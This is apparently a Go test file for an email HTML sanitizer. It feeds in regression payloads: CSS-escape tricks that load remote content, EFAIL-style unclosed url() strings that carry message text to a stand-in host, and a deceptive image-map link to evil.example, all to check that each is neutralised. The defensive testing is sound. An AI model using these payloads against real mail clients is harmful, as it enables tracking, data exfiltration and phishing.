package mime

import (
	"os"
	"strings"
	"testing"
)

// Issue 11, item 13: each row got remote content past the sanitizer of
// before (only the frame's CSP stopped it). Every row must now come out
// with nothing that loads by itself and links that open nothing.
var sanitizerRegressions = []struct {
	name   string
	bodies []string
}{
	{"@import with an escaped letter (@\\69mport)",
		[]string{`<style>@\69mport "\68ttps://t.example/a.css";</style><p>x</p>`}},
	{"@import with an escape in the middle of the name",
		[]string{`<style>@imp\6f rt '\2f\2f t.example/b.css';</style><p>x</p>`}},
	{"url( with an escaped letter in a style element (\\75rl()",
		[]string{`<style>body{background:\75rl(https://t.example/c.png)}</style><p>x</p>`}},
	{"@font-face src with an escaped url(",
		[]string{`<style>@font-face{font-family:x;src:\75rl(https://t.example/d.woff)}p{font-family:x}</style><p>x</p>`}},
	{"url( with an escaped non-hex letter (u\\rl()",
		[]string{`<style>p{background-image:u\rl(https://t.example/e.png)}</style><p>x</p>`}},
	{"image-set with an escaped scheme",
		[]string{`<style>p{background-image:image-set("\68ttp://t.example/f.png" 1x)}</style><p>x</p>`}},
	{"-webkit-image-set with escaped slashes",
		[]string{`<style>p{background:-webkit-image-set('\2f\2ft.example/g.png' 1x)}</style><p>x</p>`}},
	{"url( that never closes takes the rest of the sheet (EFAIL)",
		[]string{`<style>body{background:url(https://t.example/i?</style><p>secret</p><style>p{color:red}</style>`}},
	{"quoted url( that never closes",
		[]string{`<style>body{background:url('https://t.example/j?</style><p>secret</p>`}},
	{"url( opened in one part and closed in another",
		[]string{`<style>body{background-image:url(https://t.example/k?</style><p>x</p>`,
			`<style>.s{color:red}</style><p>secret</p><style>a{}) }</style>`}},
	{"image-set string opened in one part and closed in another",
		[]string{`<style>p{background:image-set("https://t.example/l?</style><p>x</p>`,
			`<p>secret</p><style>a{color:red}" 1x)}</style>`}},
	{"<area href> navigates the frame",
		[]string{`<img src="cid:map" usemap="#m" alt="map"><map name="m"><area shape="rect" coords="0,0,9,9" href="https://t.example/m" alt="Account"></map>`}},
}

func TestSanitizerRegressions(t *testing.T) {
	for _, tc := range sanitizerRegressions {
		t.Run(tc.name, func(t *testing.T) {
			problems, r := renderProblems(t, tc.bodies...)
			for _, p := range problems {
				t.Error(p)
			}
			if problems != nil {
				t.Log(r.Document)
			}
		})
	}
}

// An image map's area is a link like <a>: listed beside the mail with
// the same checks (here its text names another site).
func TestAreaIsListedAsALink(t *testing.T) {
	_, r := renderProblems(t, `<img src="cid:map" usemap="#m"><map name="m">`+
		`<area shape="rect" coords="0,0,9,9" href="https://evil.example/login" alt="bank.example/login">`+
		`<area shape="rect" coords="9,9,19,19" href="javascript:alert(1)" alt="run"></map>`)
	if len(r.Links) != 1 {
		t.Fatalf("links: %+v", r.Links)
	}
	l := r.Links[0]
	if l.URL != "https://evil.example/login" || l.Host != "evil.example" || l.Text != "bank.example/login" || l.Warning == "" {
		t.Fatalf("area link: %+v", l)
	}
}

// Each body's sheets stay apart: one style element per sheet, so that
// no part's CSS can run on into another's.
func TestEachSheetHasItsOwnStyleElement(t *testing.T) {
	_, r := renderProblems(t, `<style>p{color:red}</style><style>a{color:blue}</style>`, `<style>b{color:green}</style>`)
	if n := strings.Count(r.Document, "<style>"); n != 4 { // the base sheet and three
		t.Fatalf("%d style elements:\n%s", n, r.Document)
	}
	for _, want := range []string{"<style>p{color:red}</style>", "<style>a{color:blue}</style>", "<style>b{color:green}</style>"} {
		if !strings.Contains(r.Document, want) {
			t.Errorf("missing %s in\n%s", want, r.Document)
		}
	}
}

// loadVectors reads testdata/leak-vectors.txt: "### name" lines, each
// followed by its HTML; lines starting "# " before the first are notes.
func loadVectors(t testing.TB) [][2]string {
	t.Helper()
	b, err := os.ReadFile("testdata/leak-vectors.txt")
	if err != nil {
		t.Fatal(err)
	}
	var out [][2]string
	for _, block := range strings.Split(string(b), "\n### ")[1:] {
		name, html, _ := strings.Cut(block, "\n")
		out = append(out, [2]string{name, html})
	}
	return out
}

// TestLeakVectors: the broader table. Rendered alone, no vector leaves
// anything in the document that loads, runs or navigates by itself.
func TestLeakVectors(t *testing.T) {
	vectors := loadVectors(t)
	if len(vectors) < 100 {
		t.Fatalf("%d vectors", len(vectors))
	}
	for _, v := range vectors {
		t.Run(v[0], func(t *testing.T) {
			problems, r := renderProblems(t, v[1])
			for _, p := range problems {
				t.Error(p)
			}
			if problems != nil {
				t.Log(r.Document)
			}
		})
	}
}
